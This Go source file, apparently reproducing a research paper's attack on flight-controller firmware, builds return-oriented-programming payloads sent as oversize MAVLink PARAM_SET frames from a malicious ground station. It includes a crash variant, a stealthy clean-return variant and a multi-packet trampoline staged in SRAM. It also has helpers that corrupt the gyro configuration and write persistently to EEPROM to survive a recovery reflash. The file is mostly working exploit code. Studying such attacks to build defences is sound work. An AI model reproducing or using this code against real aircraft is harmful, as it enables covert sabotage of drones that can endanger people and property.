package attack

import (
	"fmt"

	"mavr/internal/avr"
	"mavr/internal/firmware"
	"mavr/internal/mavlink"
)

// BuildV1 constructs the basic ROP payload (§IV-C): the overwritten
// return address enters the write_mem combination gadget (pop half
// first, then store half) to perform the arbitrary 3-byte writes, and
// the chain then returns into garbage — the stack frames stay
// destroyed and the board crashes, the drawback V2 fixes.
func BuildV1(a *Analysis, writes ...Write) ([]byte, error) {
	return landingPayloadFor(a, fig5Writer(a.WriteMem), writes...)
}

// BuildV2 constructs the stealthy clean-return payload (§IV-D): the
// overwritten saved r28/r29 aim the stk_move gadget at the overflowed
// buffer itself, the pivoted chain performs userWrites, then repairs
// the smashed frame and returns to the handler's original caller.
func BuildV2(a *Analysis, userWrites ...Write) ([]byte, error) {
	return stealthPayloadFor(a, a.StkMove, fig5Writer(a.WriteMem), userWrites...)
}

// BuildV3 constructs the trampoline attack (§IV-E): a sequence of
// stealthy V2 packets stages an arbitrarily large chain into unused
// SRAM at stageAddr, and a final pivot-only packet executes it. The
// staged chain is the one V2 would embed for bigWrites — it still ends
// with the frame repair and clean return, so the whole multi-packet
// attack is invisible to the ground station.
func BuildV3(a *Analysis, bigWrites []Write, stageAddr uint16) ([][]byte, error) {
	wr := fig5Writer(a.WriteMem)
	staged := stealthChain(a, a.StkMove, wr, bigWrites)
	var packets [][]byte
	for off := 0; off < len(staged); off += 3 {
		w := Write{Addr: stageAddr + uint16(off), Vals: [3]byte{0x61, 0x61, 0x61}}
		copy(w.Vals[:], staged[off:])
		p, err := stealthPayloadFor(a, a.StkMove, wr, w)
		if err != nil {
			return nil, fmt.Errorf("attack: staging packet at +%d: %w", off, err)
		}
		packets = append(packets, p)
	}
	// Final packet: pivot straight into the staged chain.
	final, err := pivotPayload(a, a.StkMove, nil, stageAddr)
	if err != nil {
		return nil, err
	}
	return append(packets, final), nil
}

// StagedChainLen is the length of the chain BuildV3 stages for n big
// writes, so examples can size the staging area: BuildV3 sends one
// packet per 3 staged bytes plus the final pivot.
func StagedChainLen(a *Analysis, n int) int {
	return len(stealthChain(a, a.StkMove, fig5Writer(a.WriteMem), make([]Write, n)))
}

// Frame wraps a payload in the oversize MAVLink PARAM_SET frame the
// malicious ground station transmits.
func Frame(payload []byte) *mavlink.Frame {
	return &mavlink.Frame{
		MsgID:   mavlink.MsgIDParamSet,
		SysID:   255, // ground station
		Payload: payload,
	}
}

// GyroCfgWrite is the paper's demonstration write: corrupt the gyro
// configuration byte for a continuous effect on the reported attitude.
// The two adjacent bytes receive the gadget's other two stores.
func GyroCfgWrite(v byte) Write {
	return Write{Addr: firmware.AddrGyroCfg, Vals: [3]byte{v, 0, 0}}
}

// EEPROMCfgWrites drives the memory-mapped EEPROM controller through
// the write gadget: the first write stages EEDR and EEAR, the second
// strobes EECR (re-storing the staged bytes harmlessly). The result
// persists in EEPROM — damage that survives even MAVR's recovery
// reflash, because the firmware reloads its configuration from EEPROM
// at boot. Possible whenever the attacker has randomization-immune
// gadgets (the §VI-B4 resident bootloader); hardware ISP removes them.
func EEPROMCfgWrites(eepromAddr, v byte) []Write {
	return []Write{
		// EEDR = v, EEARL = eepromAddr, EEARH = 0.
		{Addr: avr.AddrEEDR, Vals: [3]byte{v, eepromAddr, 0}},
		// EECR = EEMPE|EEPE (strobe), then EEDR/EEARL re-staged.
		{Addr: avr.AddrEECR, Vals: [3]byte{1<<avr.BitEEMPE | 1<<avr.BitEEPE, v, eepromAddr}},
	}
}
